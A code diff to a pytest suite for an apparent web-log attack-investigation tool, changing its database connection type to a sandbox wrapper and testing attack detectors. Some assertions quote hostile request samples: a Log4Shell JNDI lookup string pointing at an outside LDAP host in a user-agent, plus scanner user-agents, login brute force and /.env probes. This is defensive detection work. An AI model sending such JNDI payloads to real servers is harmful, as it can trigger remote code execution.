@@ -8,7 +8,6 @@ import re
 from collections.abc import Iterator
 from pathlib import Path
 
-import duckdb
 import pytest
 from click.testing import CliRunner
 
@@ -44,18 +43,18 @@ def attack_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 
 @pytest.fixture(scope="module")
-def con(attack_store: Path) -> Iterator[duckdb.DuckDBPyConnection]:
+def con(attack_store: Path) -> Iterator[query.Sandbox]:
     c = query.connect(attack_store)
     yield c
     c.close()
 
 
-def hits(con: duckdb.DuckDBPyConnection, name: str) -> list[dict[str, object]]:
+def hits(con: query.Sandbox, name: str) -> list[dict[str, object]]:
     inv = investigate.attacks(con, Scope(limit=100_000), [name])
     return [dict(zip(inv.rows.columns, r, strict=True)) for r in inv.rows.rows]
 
 
-def test_every_detector_is_data_with_a_predicate_that_duckdb_accepts(con: duckdb.DuckDBPyConnection) -> None:
+def test_every_detector_is_data_with_a_predicate_that_duckdb_accepts(con: query.Sandbox) -> None:
     names = [d.name for d in detectors.DETECTORS]
     assert len(set(names)) == len(names) >= 9
     for d in detectors.DETECTORS:
@@ -80,14 +79,14 @@ def test_every_detector_is_data_with_a_predicate_that_duckdb_accepts(con: duckdb
     ],
 )  # fmt: skip
 def test_detector_finds_the_attacks_of_its_samples(
-    con: duckdb.DuckDBPyConnection, detector: str, expected: list[str]
+    con: query.Sandbox, detector: str, expected: list[str]
 ) -> None:
     found = [f"{r['path']}{'?' + str(r['query']) if r['query'] else ''}" for r in hits(con, detector)]
     for want in expected:
         assert any(want in f for f in found), (detector, want)
 
 
-def test_log4shell_in_user_agent_and_referrer(con: duckdb.DuckDBPyConnection) -> None:
+def test_log4shell_in_user_agent_and_referrer(con: query.Sandbox) -> None:
     rows = hits(con, "log4shell")
     uas = [str(r["user_agent"]) for r in rows]
     assert any(ua.startswith("${jndi:ldap://45.155.205.0/24:12344/Basic/Command/Base64/") for ua in uas), uas
@@ -96,13 +95,13 @@ def test_log4shell_in_user_agent_and_referrer(con: duckdb.DuckDBPyConnection) ->
     assert len(rows) == 3
 
 
-def test_scanner_user_agents(con: duckdb.DuckDBPyConnection) -> None:
+def test_scanner_user_agents(con: query.Sandbox) -> None:
     uas = {str(r["user_agent"]) for r in hits(con, "scanner_ua")}
     assert "masscan/1.0 (https://github.com/robertdavidgraham/masscan)" in uas
     assert "Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:getinfo)" in uas
 
 
-def test_login_bruteforce_by_network(con: duckdb.DuckDBPyConnection) -> None:
+def test_login_bruteforce_by_network(con: query.Sandbox) -> None:
     rows = hits(con, "login_bruteforce")
     nets = {str(r["client_net"]) for r in rows}
     # crowdsec: 9 POSTs to wp-login.php in one second; basjes: a /24 posting to /login_form all morning.
@@ -232,7 +231,7 @@ def test_ip_reports_a_destroyed_key(two_months: tuple[Path, int], tmp_path: Path
     store, _ = two_months
     copy = tmp_path / "keys"
     copy.mkdir(mode=0o700)
-    for f in Path(str(store) + "-keys").iterdir():  # destroy in a copy: the module store stays intact
+    for f in Path(str(store) + "-keys").glob("*.key"):  # destroy in a copy: the module store stays intact
         (copy / f.name).write_bytes(f.read_bytes())
     ks = keys.KeyStore(copy, "month")
     assert ks.destroy_before(dt.date(2026, 2, 1)) == ["2026-01"]
@@ -281,8 +280,8 @@ def test_net_containment_any_prefix(two_months: tuple[Path, int]) -> None:
 TABLES = "SELECT table_name FROM duckdb_tables() ORDER BY 1"
 
 
-def test_path_ua_domain(con: duckdb.DuckDBPyConnection) -> None:
-    tables_before = con.sql(TABLES).fetchall()
+def test_path_ua_domain(con: query.Sandbox) -> None:
+    tables_before = con.con.sql(TABLES).fetchall()
     env = investigate.path(con, Scope(), "/.env")
     assert [r[3] for r in env.rows.rows] == ["/.env"]
     wp = investigate.path(con, Scope(), "*/wp-login.php")
@@ -294,7 +293,7 @@ def test_path_ua_domain(con: duckdb.DuckDBPyConnection) -> None:
     assert sum(r[2] for r in top["top paths"].rows) == 9
     assert {r[0] for r in top["top paths"].rows} == {r[3] for r in wp.rows.rows}
     assert sum(r[2] for r in top["top client networks"].rows) == 9
-    assert con.sql(TABLES).fetchall() == tables_before  # nothing left behind on the connection
+    assert con.con.sql(TABLES).fetchall() == tables_before  # nothing left behind on the connection
     with pytest.raises(UsageError, match="bad pattern"):
         investigate.path(con, Scope(), "([", regex=True)
     rx = investigate.path(con, Scope(), r"^/(join|login)_form$", regex=True)
@@ -302,12 +301,12 @@ def test_path_ua_domain(con: duckdb.DuckDBPyConnection) -> None:
     # every top table is exactly what its own query returns, order (ties by key, nulls last) included
     cond = "regexp_matches(path, '^/(join|login)_form$')"
     for name, by in [("top paths", "path, status"), ("top client networks", "client_net, as_org")]:
-        expected = con.sql(
+        expected = con.con.sql(
             f"SELECT {by}, count(*) AS n, min(ts), max(ts) FROM pageviews WHERE {cond} "
             f"GROUP BY ALL ORDER BY n DESC, {by} LIMIT 10"
         ).fetchall()
         assert dict(rx.tables)[name].rows == expected and len(expected) > 1
-    days = con.sql(f"SELECT count(DISTINCT date), count(*), min(ts) FROM pageviews WHERE {cond}").fetchall()
+    days = con.con.sql(f"SELECT count(DISTINCT date), count(*), min(ts) FROM pageviews WHERE {cond}").fetchall()
     facts = dict(rx.facts)
     assert (facts["days with requests"], facts["requests"], facts["first"]) == tuple(
         f"{v:,}" if isinstance(v, int) else str(v) for v in days[0]
